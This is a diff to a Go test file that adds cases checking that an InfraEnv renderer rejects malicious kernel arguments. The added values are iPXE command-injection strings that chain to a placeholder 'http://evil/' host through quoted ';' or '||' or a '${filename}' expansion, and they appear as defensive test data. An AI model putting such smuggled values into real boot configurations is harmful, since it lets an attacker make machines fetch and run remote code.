@@ -238,6 +238,15 @@ func TestRenderRejectsBadInput(t *testing.T) {
 			ie.Spec.KernelArguments = []v1beta1.KernelArgument{{Value: "a\nchain http://x"}}
 		}, "not a single kernel argument"},
 		"karg with space": {func(ie *v1beta1.InfraEnv) { ie.Spec.KernelArguments = []v1beta1.KernelArgument{{Value: "a b"}} }, "not a single kernel argument"},
+		"karg with a quoted iPXE ;": {func(ie *v1beta1.InfraEnv) {
+			ie.Spec.KernelArguments = []v1beta1.KernelArgument{{Value: `x="a ; chain http://evil/"`}}
+		}, "not a single kernel argument"},
+		"karg with a quoted iPXE ||": {func(ie *v1beta1.InfraEnv) {
+			ie.Spec.KernelArguments = []v1beta1.KernelArgument{{Value: `x="a || chain http://evil/"`}}
+		}, "not a single kernel argument"},
+		"karg expanding an iPXE setting": {func(ie *v1beta1.InfraEnv) {
+			ie.Spec.KernelArguments = []v1beta1.KernelArgument{{Value: `x=${filename}`}}
+		}, "not a single kernel argument"},
 		"karg too long for area": {func(ie *v1beta1.InfraEnv) {
 			ie.Spec.KernelArguments = []v1beta1.KernelArgument{{Value: "x=" + strings.Repeat("y", 1100)}}
 		}, "do not fit"},
